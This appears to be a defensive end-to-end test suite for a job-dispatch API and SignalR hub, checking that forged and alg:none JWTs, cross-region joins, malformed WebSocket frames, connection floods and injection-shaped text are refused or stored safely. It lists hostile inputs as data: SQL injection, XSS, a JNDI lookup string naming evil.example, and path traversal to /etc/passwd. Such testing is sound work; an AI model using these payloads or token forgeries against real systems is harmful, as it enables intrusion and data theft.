// Hostile input and access control, against the real binary: tokens an
// attacker makes, joins outside the token's rights, garbage on the wire,
// floods of junk connections, the hub's per-user limits, injection-shaped
// text, and bearer tokens kept out of the logs. See docs/security.md.

import { test } from "node:test";
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";

import {
  startServer,
  dispatcherToken,
  contractorToken,
  forgeJwt,
  junkConnection,
  negotiate,
  rawConnect,
  signalR,
  WebSocket,
  RS,
  sleep,
  waitFor,
  T,
} from "./lib/harness.mjs";

const now = () => Math.floor(Date.now() / 1000);
const CONNECTED = signalR.HubConnectionState.Connected;

/** `res` is an RFC 9457 problem with `status`. */
function assertProblem(res, status, what) {
  assert.equal(res.status, status, `${what}: got ${res.status} ${res.text}`);
  assert.match(res.headers.get("content-type") ?? "", /^application\/problem\+json/, `${what}: content type`);
  assert.equal(res.json?.status, status, `${what}: the problem's status`);
  for (const key of ["type", "title", "detail"]) {
    assert.equal(typeof res.json[key], "string", `${what}: the problem has a ${key}`);
  }
}

// ---------------------------------------------------------------------------
// Tokens

test("forged, expired, alg:none and wrong-algorithm tokens get 401 problem+json from the API and from negotiate", T, async (t) => {
  const server = await startServer(t);
  const claims = { sub: "e2e-attacker", role: "Admin", exp: now() + 3600, iat: now() };
  const genuine = forgeJwt(claims); // HS256 with the server's secret: the control
  const [head, , sig] = (await dispatcherToken(["north"])).split(".");
  const bad = {
    forged: forgeJwt(claims, { secret: "not-the-server-secret-0123456789abcdef" }),
    expired: forgeJwt({ ...claims, exp: now() - 3600, iat: now() - 7200 }),
    "alg none": forgeJwt(claims, { alg: "none", signature: "" }),
    "alg NONE": forgeJwt(claims, { alg: "NONE", signature: "" }),
    "alg none, with a valid MAC": forgeJwt(claims, { alg: "none" }),
    "no alg": forgeJwt(claims, { header: { alg: undefined } }),
    "HS512 with the right secret": forgeJwt(claims, { alg: "HS512" }),
    "HS384 with the right secret": forgeJwt(claims, { alg: "HS384" }),
    "RS256 header, HMAC with the secret (key confusion)": forgeJwt(claims, { alg: "RS256" }),
    "RS256 header, RSA-sized signature": forgeJwt(claims, { alg: "RS256", signature: randomBytes(256).toString("base64url") }),
    "a dispatcher's signature on Admin claims": `${head}.${Buffer.from(JSON.stringify(claims)).toString("base64url")}.${sig}`,
    "no signature segment": genuine.split(".").slice(0, 2).join("."),
    "padded signature": `${genuine}=`,
    garbage: "not-a-token",
  };

  assert.equal((await server.request("GET", "/api/jobs", { token: genuine })).status, 200, "the control token passes the API");
  assert.equal((await negotiate(server, genuine)).status, 200, "the control token passes negotiate");

  for (const [name, token] of Object.entries(bad)) {
    const api = await server.request("GET", "/api/jobs", { token });
    assertProblem(api, 401, `GET /api/jobs with the ${name} token`);
    assert.match(api.headers.get("www-authenticate") ?? "", /^Bearer/);
    const created = await server.request("POST", "/api/contractors", { token, body: { name: "Mallory", region: "north" } });
    assertProblem(created, 401, `POST /api/contractors with the ${name} token`);
    const hub = await negotiate(server, token);
    assertProblem(hub, 401, `POST /hubs/jobs/negotiate with the ${name} token`);
    assert.match(hub.headers.get("www-authenticate") ?? "", /^Bearer/);
    assertProblem(await negotiate(server, token, { inQuery: true }), 401, `negotiate with the ${name} token in access_token`);
    await assert.rejects(
      rawConnect(server, token, { skipNegotiation: true, handshake: false }),
      (err) => err.status === 401,
      `WebSocket without negotiate, ${name} token`,
    );
  }
  assert.match((await negotiate(server, bad.expired)).json.detail, /expired/);
  // Nothing the forgeries tried was created.
  const list = await server.request("GET", "/api/contractors?region=north", { token: genuine });
  assert.equal(list.status, 200);
  assert.ok(!JSON.stringify(list.json).includes("Mallory"), "no contractor was created by a bad token");
});

// ---------------------------------------------------------------------------
// Groups are the access control

test("joins outside the token's regions or contractor are refused, the connection stays, and nothing leaks", T, async (t) => {
  const server = await startServer(t);
  const a = await server.createContractor("north");
  const b = await server.createContractor("north");
  const southContractor = await server.createContractor("south");
  const north = await server.connect(await dispatcherToken(["north"]));
  const contractorA = await server.connect(await contractorToken(a.id));

  const refusals = [
    [north, "JoinDispatchGroup", "south"],
    [north, "JoinDispatchGroup", "south", 0], // replaying another region's past
    [north, "JoinDispatchGroup", "North"], // regions are exact: no case folding into a right
    [north, "JoinDispatchGroup", "NORTH"],
    [north, "joindispatchgroup", "south"], // method names fold case; rights do not
    [contractorA, "JoinContractorGroup", b.id],
    [contractorA, "JoinContractorGroup", b.id.toUpperCase()],
    [contractorA, "JoinContractorGroup", b.id, 0],
    [contractorA, "JoinContractorGroup", southContractor.id],
    [contractorA, "JoinDispatchGroup", "north"],
  ];
  for (const [client, method, ...args] of refusals) {
    await assert.rejects(
      client.connection.invoke(method, ...args),
      /not allowed/,
      `${method}(${args.map((x) => JSON.stringify(x)).join(", ")}) is refused`,
    );
    assert.equal(client.state, CONNECTED, `still connected after ${method}`);
    assert.equal(client.closed, undefined);
  }

  // The rightful joins work on the same connections.
  assert.deepEqual(await north.connection.invoke("JoinDispatchGroup", "north"), { group: "dispatch/north", replayed: 0 });
  assert.deepEqual(await contractorA.connection.invoke("JoinContractorGroup", a.id), { group: `contractor/${a.id}`, replayed: 0 });

  const toSouth = await server.assignNew("south", southContractor.id);
  const toB = await server.assignNew("north", b.id);
  const toA = await server.assignNew("north", a.id);
  await north.waitForEvent(toA.assignment.eventId);
  await contractorA.waitForEvent(toA.assignment.eventId);
  await server.waitPublished(toSouth.assignment.eventId);
  await server.waitPublished(toB.assignment.eventId);
  await sleep(500);
  assert.deepEqual(
    north.events.map((e) => e.eventId).sort(),
    [toB.assignment.eventId, toA.assignment.eventId].sort(),
    "the north dispatcher saw north's events only",
  );
  assert.deepEqual(contractorA.events.map((e) => e.eventId), [toA.assignment.eventId], "contractor A saw only its own");

  // The same rules over HTTP.
  const northToken = await dispatcherToken(["north"]);
  const aToken = await contractorToken(a.id);
  assertProblem(
    await server.request("POST", "/api/jobs", { token: northToken, body: { jobType: "Tile", region: "south", durationMinutes: 60 } }),
    403,
    "a north dispatcher creating a south job",
  );
  const southJob = await server.createJob("south");
  assertProblem(
    await server.request("POST", `/api/jobs/${southJob.id}/assign`, {
      token: northToken,
      body: { contractorId: southContractor.id, startUtc: "2032-01-01T08:00:00Z", endUtc: "2032-01-01T10:00:00Z" },
    }),
    403,
    "a north dispatcher assigning a south job",
  );
  for (const path of [
    "/api/events",
    "/api/jobs",
    `/api/contractors/${b.id}`,
    `/api/contractors/${b.id}/assignments`,
    `/api/jobs/${toB.assignment.jobId}`,
  ]) {
    assertProblem(await server.request("GET", path, { token: aToken }), 403, `a contractor reading ${path}`);
  }
  // What is its own, it reads: the job it got and its assignments.
  const ownJob = await server.request("GET", `/api/jobs/${toA.assignment.jobId}`, { token: aToken });
  assert.equal(ownJob.status, 200, "contractor A reads the job assigned to it");
  assert.equal(ownJob.json.id, toA.assignment.jobId);
  const own = await server.request("GET", `/api/contractors/${a.id}/assignments`, { token: aToken });
  assert.equal(own.status, 200, "contractor A lists its assignments");
  assert.deepEqual(own.json.items.map((i) => [i.assignmentId, i.job.id]), [[toA.assignment.assignmentId, toA.assignment.jobId]]);
});

// ---------------------------------------------------------------------------
// Garbage on the wire

/** Sends `text` as a fragmented WebSocket message of `size`-byte frames. */
function sendFragmented(ws, text, size) {
  for (let i = 0; i < text.length; i += size) {
    const fin = i + size >= text.length;
    ws.send(text.slice(i, i + size), { fin }, () => {});
  }
}

test("garbage on a raw WebSocket ends only that call or connection; a client connected before keeps receiving", T, async (t) => {
  const server = await startServer(t);
  const token = await dispatcherToken(["north"]);
  const contractor = await server.createContractor("north");
  const bystander = await server.connect(token);
  await bystander.connection.invoke("JoinDispatchGroup", "north");
  const bystanderStillServed = async (what) => {
    const { assignment } = await server.assignNew("north", contractor.id);
    await bystander.waitForEvent(assignment.eventId);
    assert.equal(bystander.state, CONNECTED, `the bystander is still connected after ${what}`);
    assert.equal(bystander.closed, undefined);
  };

  // Calls that fail end only the call: a Completion with an error, and the connection goes on.
  const raw = await rawConnect(server, token);
  const failing = [
    { target: "NoSuchMethod", arguments: [] },
    { target: "DropAllTables", arguments: ["'; DROP TABLE jobs; --"] },
    { target: "JoinDispatchGroup", arguments: [42] },
    { target: "JoinDispatchGroup", arguments: [{ region: "north" }] },
    { target: "JoinDispatchGroup", arguments: [["north"]] },
    { target: "JoinDispatchGroup", arguments: [null] },
    { target: "JoinDispatchGroup", arguments: [] },
    { target: "JoinDispatchGroup", arguments: ["north", "seven"] },
    { target: "JoinDispatchGroup", arguments: ["north", 1.5] },
    { target: "JoinDispatchGroup", arguments: ["north", -1] },
    { target: "JoinDispatchGroup", arguments: ["north", 1e300] },
    { target: "JoinDispatchGroup", arguments: ["north", 0, "extra"] },
    { target: "JoinDispatchGroup", arguments: ["x".repeat(65)] },
    { target: "JoinDispatchGroup", arguments: ["north/../south"] },
    { target: "JoinDispatchGroup", arguments: ["north\u0000"] },
    { target: "JoinContractorGroup", arguments: [true] },
    { target: "JoinContractorGroup", arguments: ["../../etc/passwd"] },
    { target: "LeaveContractorGroup", arguments: [{ $ne: null }] },
  ];
  for (const [i, call] of failing.entries()) {
    const id = `f${i}`;
    raw.sendRecord({ type: 1, invocationId: id, ...call });
    const done = await raw.waitForCompletion(id);
    assert.equal(typeof done.error, "string", `${JSON.stringify(call)} fails: ${JSON.stringify(done)}`);
    assert.ok(!("result" in done));
  }
  raw.sendRecord({ type: 4, invocationId: "stream", target: "JoinDispatchGroup", arguments: ["north"] });
  assert.match((await raw.waitForCompletion("stream")).error, /Streaming is not supported/);
  raw.sendRecord({ type: 1, invocationId: "ok", target: "JoinDispatchGroup", arguments: ["north"] });
  assert.deepEqual((await raw.waitForCompletion("ok")).result, { group: "dispatch/north", replayed: 0 });
  assert.equal(raw.closed, undefined, "failed calls did not close the connection");
  await bystanderStillServed("failed calls");
  await waitFor(() => raw.events().length >= 1, 5000, "the raw connection's event");

  // A bad handshake ends that socket with ASP.NET's handshake error.
  const handshakes = {
    "an unknown protocol": [`{"protocol":"protobuf","version":1}${RS}`, /The protocol 'protobuf' is not supported/],
    "a protocol name with a separator": [`{"protocol":"x\\u001ey","version":1}${RS}`, /is not supported/],
    "version 99": [`{"protocol":"json","version":99}${RS}`, /does not support version 99/],
    "not JSON": [`hello${RS}`, /not valid JSON/],
    "a JSON array": [`[]${RS}`, /JSON object/],
  };
  for (const [what, [text, expected]] of Object.entries(handshakes)) {
    const victim = await rawConnect(server, token, { handshake: false });
    victim.send(text);
    await victim.waitForClose();
    assert.equal(victim.records.length, 1, `${what}: one reply: ${JSON.stringify(victim.recordTexts)}`);
    assert.match(victim.records[0].error, expected, what);
  }

  // Input that breaks the protocol ends that connection with a Close record
  // (no allowReconnect); nothing else is touched.
  const breakers = {
    "not JSON": (ws) => ws.send(`not json${RS}`),
    "a JSON array": (ws) => ws.send(`[1,2,3]${RS}`),
    "a string type": (ws) => ws.send(`{"type":"1","target":"JoinDispatchGroup"}${RS}`),
    "arguments as an object": (ws) => ws.send(`{"type":1,"invocationId":"1","target":"JoinDispatchGroup","arguments":{"0":"north"}}${RS}`),
    "a numeric invocationId": (ws) => ws.send(`{"type":1,"invocationId":7,"target":"JoinDispatchGroup","arguments":["north"]}${RS}`),
    "an empty target": (ws) => ws.send(`{"type":1,"invocationId":"1","target":"","arguments":[]}${RS}`),
    "nesting past serde's limit": (ws) => ws.send(`${"[".repeat(5000)}${RS}`),
    "bare separators": (ws) => ws.send(RS.repeat(10)),
    "a NUL record": (ws) => ws.send(`\u0000${RS}`),
    "invalid UTF-8 in a text frame": (ws) => ws.send(Buffer.from([0x7b, 0xff, 0xfe, 0x7d, 0x1e]), { binary: false }),
    "a binary frame": (ws) => ws.send(Buffer.from(`{"type":6}${RS}`), { binary: true }),
    "40 KiB without a separator, in 8 KiB messages": (ws) => {
      for (let i = 0; i < 5; i++) ws.send("a".repeat(8 * 1024));
    },
  };
  for (const [what, send] of Object.entries(breakers)) {
    const victim = await rawConnect(server, token);
    send(victim.ws);
    await victim.waitForClose(5000).catch(() => assert.fail(`${what}: the connection was not closed`));
    const close = victim.records.at(-1);
    assert.equal(close?.type, 7, `${what}: a Close record last: ${JSON.stringify(victim.recordTexts)}`);
    assert.equal(typeof close.error, "string");
    assert.ok(!close.allowReconnect, `${what}: no allowReconnect for a protocol violation`);
  }
  await bystanderStillServed("protocol violations");

  // 2 MiB in one text message, in one record, and in 16 KiB fragments: the
  // connection ends (the limit is 32 KiB); the server does not buffer it all.
  const big = "x".repeat(2 * 1024 * 1024);
  const huge = {
    "a 2 MiB text message": (ws) => ws.send(big, () => {}),
    "a 2 MiB record": (ws) => ws.send(`{"type":1,"target":"JoinDispatchGroup","arguments":["${big}"]}${RS}`, () => {}),
    "2 MiB in 16 KiB fragments": (ws) => sendFragmented(ws, big, 16 * 1024),
    "a 2 MiB handshake": (ws) => ws.send(`{"protocol":"json","version":1,"pad":"${big}"}${RS}`, () => {}),
  };
  for (const [what, send] of Object.entries(huge)) {
    const victim = await rawConnect(server, token, { handshake: !what.includes("handshake") });
    send(victim.ws);
    await victim.waitForClose(10_000).catch(() => assert.fail(`${what}: the connection was not closed`));
    // The server may reset the socket before its Close record is read; when a record came, it says why.
    const last = victim.records.at(-1);
    if (last && !what.includes("handshake")) assert.equal(last.type, 7, `${what}: ${JSON.stringify(victim.recordTexts)}`);
  }
  await bystanderStillServed("2 MiB messages");
  assert.equal(raw.closed, undefined, "the well-behaved raw connection is still open");
  assert.equal(server.exit, undefined, "the server is still running");
});

/**
 * A WebSocket that does something wrong: `messages` sent right after the
 * upgrade (after a good handshake with `handshake: true`), then closed.
 * Resolves with how it ended; never rejects.
 */
function wsJunk(server, token, messages, { handshake = false } = {}) {
  return new Promise((resolve) => {
    const headers = token ? { authorization: `Bearer ${token}` } : {};
    const ws = new WebSocket(`${server.wsBase}/hubs/jobs`, { headers });
    let settled = false;
    const done = (how) => {
      if (settled) return;
      settled = true;
      clearTimeout(guard);
      try {
        ws.terminate();
      } catch {
        // already gone
      }
      resolve(how);
    };
    const guard = setTimeout(() => done("timeout"), 5000);
    ws.on("error", () => done("error"));
    ws.on("unexpected-response", (req, res) => {
      res.resume();
      done(`http ${res.statusCode}`);
    });
    ws.on("close", () => done("closed"));
    ws.on("open", () => {
      if (handshake) ws.send(`{"protocol":"json","version":1}${RS}`);
      for (const m of messages) ws.send(m);
      setTimeout(() => done("sent"), 100);
    });
  });
}

test("300 garbage connections in waves do not disturb a real client: it receives every event of a burst", T, async (t) => {
  const server = await startServer(t);
  const token = await dispatcherToken(["north"]);
  const junkToken = await dispatcherToken(["north"], { sub: "e2e-junk" });
  const contractor = await server.createContractor("north");
  const client = await server.connect(token);
  await client.connection.invoke("JoinDispatchGroup", "north");

  const upgrade = (key) =>
    "GET /hubs/jobs HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
    `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}\r\nAuthorization: Bearer ${junkToken}\r\n\r\n`;
  const kinds = [
    () => junkConnection(server, [randomBytes(512)]), // binary noise instead of HTTP
    () => junkConnection(server, [randomBytes(64)], { reset: true }), // noise, then a RST
    () => junkConnection(server, [], { lingerMs: 10 }), // connects, says nothing, leaves
    () => junkConnection(server, ["GET /hubs/jobs HTTP/1.1\r\nHost: x\r\n"], { lingerMs: 200 }), // headers never end
    () => junkConnection(server, [upgrade("not-a-key")]), // a broken upgrade
    () => junkConnection(server, [upgrade("dGhlIHNhbXBsZSBub25jZQ=="), randomBytes(300)], { lingerMs: 100 }), // non-frames after a real upgrade
    () =>
      junkConnection(server, [
        "POST /hubs/jobs/negotiate?negotiateVersion=1 HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n",
        randomBytes(1000),
      ]), // a body that never ends
    () => junkConnection(server, [`GET /${"a".repeat(20_000)} HTTP/1.1\r\n`]), // an enormous request line
    () => wsJunk(server, junkToken, [randomBytes(100).toString("latin1")]), // garbage instead of the handshake
    () => wsJunk(server, null, ["{}"]), // no token: 401
    () => wsJunk(server, junkToken, [`{"type":1,"target":`, randomBytes(50)], { handshake: true }), // garbage after a good handshake
    () => wsJunk(server, junkToken, [], { handshake: true }), // a good handshake, then a drop
  ];

  const WAVES = 6;
  const PER_WAVE = 50;
  let opened = 0;
  const flood = (async () => {
    for (let wave = 0; wave < WAVES; wave++) {
      await Promise.all(
        Array.from({ length: PER_WAVE }, (_, i) => {
          opened++;
          return kinds[(wave * PER_WAVE + i) % kinds.length]();
        }),
      );
    }
  })();
  const BURST = 30;
  const burst = (async () => {
    const ids = [];
    for (let i = 0; i < BURST; i++) {
      const { assignment } = await server.assignNew("north", contractor.id);
      ids.push(assignment.eventId);
    }
    return ids;
  })();
  const [, ids] = await Promise.all([flood, burst]);
  assert.equal(opened, WAVES * PER_WAVE, "300 garbage connections were opened");

  await waitFor(
    () => ids.every((id) => client.events.some((e) => e.eventId === id)),
    20_000,
    () => `all ${BURST} events of the burst (got ${client.events.length})`,
  );
  assert.equal(client.events.length, BURST, "each event exactly once");
  const sequences = client.bySequence();
  assert.deepEqual(sequences, [...sequences].sort((x, y) => x - y), "in sequence order");
  assert.equal(client.state, CONNECTED);
  assert.equal(client.closed, undefined);
  assert.equal(server.exit, undefined, "the server is still running");
  assert.equal((await server.request("GET", "/health/live")).status, 200);
  // The junk user's connections were all released: it can still connect.
  const after = await rawConnect(server, junkToken);
  assert.equal(after.closed, undefined);
});

// ---------------------------------------------------------------------------
// Limits per user and per connection

test("negotiate is limited per user per minute: the 6th is 429 problem+json with Retry-After; another user is unaffected", T, async (t) => {
  const server = await startServer(t, { env: { SMARTSCHEDULER_HUB_NEGOTIATE_PER_MINUTE: "5" } });
  const alice = await dispatcherToken(["north"], { sub: "e2e-alice" });
  const bob = await dispatcherToken(["north"], { sub: "e2e-bob" });
  for (let i = 1; i <= 5; i++) assert.equal((await negotiate(server, alice)).status, 200, `negotiate ${i} of 5`);
  const sixth = await negotiate(server, alice);
  assertProblem(sixth, 429, "the 6th negotiate in a minute");
  const retryAfter = Number(sixth.headers.get("retry-after"));
  assert.ok(Number.isInteger(retryAfter) && retryAfter > 0 && retryAfter <= 60, `Retry-After: ${sixth.headers.get("retry-after")}`);
  assertProblem(await negotiate(server, alice, { inQuery: true }), 429, "the 7th, token in the query");

  // Connecting without negotiate counts against the same budget.
  await assert.rejects(
    rawConnect(server, alice, { skipNegotiation: true, handshake: false }),
    (err) => err.status === 429,
    "skipNegotiation past the budget",
  );
  const refused = await server.connect(alice, { start: false });
  await assert.rejects(refused.connection.start(), /429/, "the official client's start() fails");

  // Another user is unaffected.
  assert.equal((await negotiate(server, bob)).status, 200);
  const bobClient = await server.connect(bob);
  assert.deepEqual(await bobClient.connection.invoke("JoinDispatchGroup", "north"), { group: "dispatch/north", replayed: 0 });
});

test("open connections are limited per user: a third WebSocket is 429; a slot comes back when one closes", T, async (t) => {
  const server = await startServer(t, { env: { SMARTSCHEDULER_HUB_CONNECTIONS_PER_USER: "2" } });
  const alice = await dispatcherToken(["north"], { sub: "e2e-alice" });
  const bob = await dispatcherToken(["north"], { sub: "e2e-bob" });
  const first = await rawConnect(server, alice);
  const second = await server.connect(alice);
  await assert.rejects(
    rawConnect(server, alice),
    (err) => err.status === 429 && JSON.parse(err.body).status === 429,
    "a third WebSocket after negotiate",
  );
  await assert.rejects(
    rawConnect(server, alice, { skipNegotiation: true, handshake: false }),
    (err) => err.status === 429,
    "a third WebSocket without negotiate",
  );
  const third = await server.connect(alice, { start: false });
  await assert.rejects(third.connection.start(), /429|WebSocket/, "the official client cannot open a third");

  const bobs = [await rawConnect(server, bob), await rawConnect(server, bob)];
  assert.ok(bobs.every((c) => c.closed === undefined), "another user has their own slots");
  assert.equal(second.state, CONNECTED);

  first.close();
  const again = await waitFor(
    async () => {
      try {
        return await rawConnect(server, alice);
      } catch (err) {
        if (err.status === 429) return undefined;
        throw err;
      }
    },
    5000,
    "a slot to come back after a connection closed",
  );
  assert.equal(again.closed, undefined);
});

test("invocations are limited per connection: a burst of 20 gets 'Too many invocations' and the connection stays", T, async (t) => {
  const server = await startServer(t, { env: { SMARTSCHEDULER_HUB_INVOCATIONS_PER_SECOND: "2" } });
  const contractor = await server.createContractor("north");
  const client = await server.connect(await dispatcherToken(["north"]));
  const results = await Promise.allSettled(
    Array.from({ length: 20 }, () => client.connection.invoke("JoinDispatchGroup", "north")),
  );
  const rejected = results.filter((r) => r.status === "rejected");
  const fulfilled = results.filter((r) => r.status === "fulfilled");
  assert.ok(rejected.length > 0, "some calls of the burst were refused");
  assert.ok(fulfilled.length >= 1, `the first calls of the burst (up to 4) went through (got ${fulfilled.length})`);
  for (const r of rejected) assert.match(r.reason.message, /Too many invocations/);
  assert.equal(client.state, CONNECTED);
  assert.equal(client.closed, undefined);

  await sleep(1500);
  assert.deepEqual(await client.connection.invoke("JoinDispatchGroup", "north"), { group: "dispatch/north", replayed: 0 });
  const { assignment } = await server.assignNew("north", contractor.id);
  await client.waitForEvent(assignment.eventId);
});

// ---------------------------------------------------------------------------
// Injection-shaped text

const HOSTILE_TEXT = [
  "'; DROP TABLE jobs; --",
  "Robert'); DROP TABLE contractors;--",
  "1' OR '1'='1",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "\"quoted\" and 'single' and `back`",
  "back\\slash \\\\ \\\" \\u0000 \\n",
  "Zoë Ñandú 日本語 עברית 🚀👷‍♀️",
  "\u202eevil\u202c and \u200bzero\ufeffwidth",
  "${jndi:ldap://evil.example/x} {{7*7}} %s%n %00",
  "{\"type\":1,\"target\":\"JoinDispatchGroup\"}\u001e",
];

test("injection-shaped names and titles are stored and returned verbatim over HTTP and in JobAssigned", T, async (t) => {
  const server = await startServer(t);
  const admin = await server.adminToken();
  const dispatcher = await server.connect(await dispatcherToken(["north"]));
  await dispatcher.connection.invoke("JoinDispatchGroup", "north");

  const created = [];
  for (const text of HOSTILE_TEXT) {
    if (/\p{Cc}/u.test(text)) continue; // control characters are refused (below)
    const contractor = await server.createContractor("north", { name: text });
    assert.equal(contractor.name, text, `the created contractor's name: ${JSON.stringify(text)}`);
    const job = await server.createJob("north", { title: text });
    assert.equal(job.title, text, `the created job's title: ${JSON.stringify(text)}`);
    const assignment = await server.assign(job.id, contractor.id);
    created.push({ text, contractor, job, assignment });
  }
  assert.ok(created.length >= 10);

  const contractorClient = await server.connect(await contractorToken(created[0].contractor.id));
  await contractorClient.connection.invoke("JoinContractorGroup", created[0].contractor.id, 0);

  for (const { text, contractor, job, assignment } of created) {
    const readContractor = await server.expect(200, "GET", `/api/contractors/${contractor.id}`, { token: admin });
    assert.equal(readContractor.name, text);
    const readJob = await server.expect(200, "GET", `/api/jobs/${job.id}`, { token: admin });
    assert.equal(readJob.title, text);
    const event = await dispatcher.waitForEvent(assignment.eventId);
    assert.equal(event.job.title, text, `the JobAssigned payload's title: ${JSON.stringify(text)}`);
    const logged = await server.getEvent(assignment.eventId);
    assert.equal(logged.payload.job.title, text);
  }
  const replayed = await contractorClient.waitForEvent(created[0].assignment.eventId);
  assert.equal(replayed.job.title, created[0].text, "a replayed payload carries the title verbatim");

  // The tables are all still there and whole.
  const jobs = await server.expect(200, "GET", "/api/jobs?region=north&limit=1000", { token: admin });
  const contractors = await server.expect(200, "GET", "/api/contractors?region=north&limit=1000", { token: admin });
  const items = (page) => (Array.isArray(page) ? page : page.items);
  for (const { text } of created) {
    assert.ok(items(jobs).some((j) => j.title === text), `listed job ${JSON.stringify(text)}`);
    assert.ok(items(contractors).some((c) => c.name === text), `listed contractor ${JSON.stringify(text)}`);
  }

  // What validation refuses, with a 400 problem (never a 500).
  const refusedBodies = [
    ["/api/contractors", { name: "a\u0000b", region: "north" }],
    ["/api/contractors", { name: "sep\u001erator", region: "north" }],
    ["/api/contractors", { name: "x", region: "north'; DROP TABLE jobs; --" }],
    ["/api/contractors", { name: "x", region: "<script>" }],
    ["/api/contractors", { name: "x".repeat(201), region: "north" }],
    ["/api/jobs", { jobType: "Tile", region: "north", durationMinutes: 60, title: "t".repeat(201) }],
    ["/api/jobs", { jobType: "Tile", region: "north", durationMinutes: "60; DROP TABLE jobs" }],
    ["/api/jobs", { jobType: "Tile", region: "../south", durationMinutes: 60 }],
  ];
  for (const [path, body] of refusedBodies) {
    assertProblem(await server.request("POST", path, { token: admin, body }), 400, `POST ${path} ${JSON.stringify(body).slice(0, 60)}`);
  }
  const tooBig = await server.request("POST", "/api/contractors", {
    token: admin,
    body: { name: "x", region: "north", skills: ["y".repeat(70 * 1024)] },
  });
  assertProblem(tooBig, 413, "a 70 KiB body");
});

// ---------------------------------------------------------------------------
// Tokens stay out of the logs

test("a token in the access_token query string never appears in the service's logs", T, async (t) => {
  // At trace level, which holds every line the default (info) level writes and more.
  const server = await startServer(t, { env: { RUST_LOG: "trace" } });
  const token = await dispatcherToken(["north"], { sub: "e2e-log-probe" });
  const expired = forgeJwt({ sub: "e2e-log-probe", role: "Admin", exp: now() - 3600 });
  const forged = forgeJwt({ sub: "e2e-log-probe", role: "Admin", exp: now() + 3600 }, { secret: "other-secret-0123456789abcdef0123" });
  const contractor = await server.createContractor("north");

  // Negotiate with the token in the query, then the WebSocket with both tokens in the URL.
  const negotiated = await negotiate(server, token, { inQuery: true });
  assert.equal(negotiated.status, 200);
  const connectionToken = negotiated.json.connectionToken;
  const viaQuery = await rawConnect(server, token, { id: connectionToken, tokenInQuery: true, query: { access_token: token } });
  viaQuery.sendRecord({ type: 1, invocationId: "1", target: "JoinDispatchGroup", arguments: ["north"] });
  await viaQuery.waitForCompletion("1");
  const skipped = await rawConnect(server, token, { skipNegotiation: true, tokenInQuery: true, query: { access_token: token } });
  assert.equal(skipped.closed, undefined);
  const { assignment } = await server.assignNew("north", contractor.id);
  await viaQuery.waitForRecord((r) => r.type === 1 && r.arguments?.[0]?.eventId === assignment.eventId, 10_000, "the event");

  // Refusals log too: a reused connection token, bad tokens in the query, the API with a query token.
  await assert.rejects(
    rawConnect(server, token, { id: connectionToken, tokenInQuery: true, query: { access_token: token } }),
    (err) => err.status === 404,
  );
  for (const bad of [expired, forged]) {
    assert.equal((await negotiate(server, bad, { inQuery: true })).status, 401);
    await assert.rejects(
      rawConnect(server, bad, { skipNegotiation: true, handshake: false, tokenInQuery: true, query: { access_token: bad } }),
      (err) => err.status === 401,
    );
  }
  assert.equal((await fetch(`${server.base}/api/jobs?access_token=${token}`)).status, 401);
  viaQuery.close();
  skipped.close();
  await sleep(500); // let the last log lines land

  const log = server.log;
  if (process.env.E2E_DEBUG) console.error(`# log: ${log.length} characters`);
  assert.ok(log.length < 128 * 1024, `the whole log was kept (${log.length} characters): the harness trims past 256 KiB`);
  assert.match(log, /\/hubs\/jobs\/negotiate/, "requests are logged");
  assert.match(log, /status=101/, "the WebSocket upgrades are logged");
  const secrets = { token, expired, forged, connectionToken };
  for (const [name, secret] of Object.entries(secrets)) {
    assert.ok(!log.includes(secret), `the ${name} appears in the log`);
    const signature = secret.split(".").at(-1);
    assert.ok(!log.includes(signature), `the ${name}'s signature appears in the log`);
  }
  assert.ok(!log.includes("access_token"), "no query string is logged");
});
